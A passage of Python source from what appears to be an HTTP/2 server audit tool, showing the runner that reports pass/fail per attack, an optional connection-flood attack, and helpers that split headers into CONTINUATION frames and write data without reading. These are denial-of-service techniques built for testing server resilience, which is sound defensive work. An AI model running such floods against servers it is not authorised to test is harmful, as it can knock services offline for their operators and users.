            parser.error(f"unknown attacks: {', '.join(sorted(unknown))}; known: {', '.join(a.name for a in ATTACKS)}")
        attacks = [a for a in attacks if a.name in wanted]
    if args.skip_slow:
        attacks = [a for a in attacks if not a.slow]
    if args.connections:
        attacks.append(Attack("connection-flood", lambda t: connectionFlood(t, args.connections)))
    print(f"auditing {args.url} ({len(attacks)} attacks)")
    print(f"{'attack':<22} {'':<5} {'option':<32} observed")
    outcomes = runAudit(target, attacks, lambda outcome: print(formatRow(outcome), flush=True))
    failed = [o.attack for o in outcomes if not o.passed]
    print(f"{len(outcomes) - len(failed)} passed, {len(failed)} failed" + (f": {', '.join(failed)}" if failed else ""))
    return 1 if failed else 0


# -- internals ---------------------------------------------------------------------------------


def blockFrames(streamID: int, block: bytes) -> bytes:
    """A header block split into HEADERS and CONTINUATION frames of the default size."""
    chunks = [block[i : i + DEFAULT_MAX_FRAME] for i in range(0, len(block), DEFAULT_MAX_FRAME)] or [b""]
    frames = []
    for index, chunk in enumerate(chunks):
        frame: Frame = HeadersFrame(streamID, data=chunk) if index == 0 else ContinuationFrame(streamID, data=chunk)
        if index == 0:
            frame.flags.add("END_STREAM")
        if index == len(chunks) - 1:
            frame.flags.add("END_HEADERS")
        frames.append(frame.serialize())
    return b"".join(frames)


def _streamVerdict(outcome: Outcome, streamID: int) -> str:
    if streamID in outcome.statuses:
        return f"status {outcome.statuses[streamID]}"
    if streamID in outcome.resets:
        return f"stream reset with {ERROR_NAMES.get(outcome.resets[streamID], outcome.resets[streamID])}"
    return describeEnd(outcome)


def _floodWithoutReading(connection: RawConnection, piece: bytes, count: int) -> int:
    """Write C{count} copies of C{piece} and never read; stop when the server drops us."""
    batch = piece * max(1, BATCH_BYTES // len(piece))
    per = len(batch) // len(piece)
    sent = 0
    while sent < count:
        if not connection.send(batch):
            break
        sent += per
    return min(sent, count)


#: Linux TCP_INFO's first byte: the connection's state; 1 is ESTABLISHED.
_TCP_ESTABLISHED = 1


def _peerGone(connection: RawConnection) -> bool:
    """Whether the server closed or reset the connection, found without reading a
    byte (the kernel's TCP state: anything but ESTABLISHED means the server is
    gone). Where TCP_INFO is missing, whether a read finds the end."""
    tcpInfo = getattr(socket, "TCP_INFO", None)
    if tcpInfo is not None:
        try:
            return connection.sock.getsockopt(socket.IPPROTO_TCP, tcpInfo, 8)[0] != _TCP_ESTABLISHED
        except OSError:
            return True
    connection.poll(0)
    return connection.closed


def _waitClosed(sock: socket.socket, timeout: float) -> bool:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        readable, _, _ = select.select([sock], [], [], min(0.5, max(0.0, deadline - time.monotonic())))
        if readable:
            try:
                if not sock.recv(65536):
                    return True
            except OSError:
                return True
    return False


if __name__ == "__main__":
    sys.exit(main())
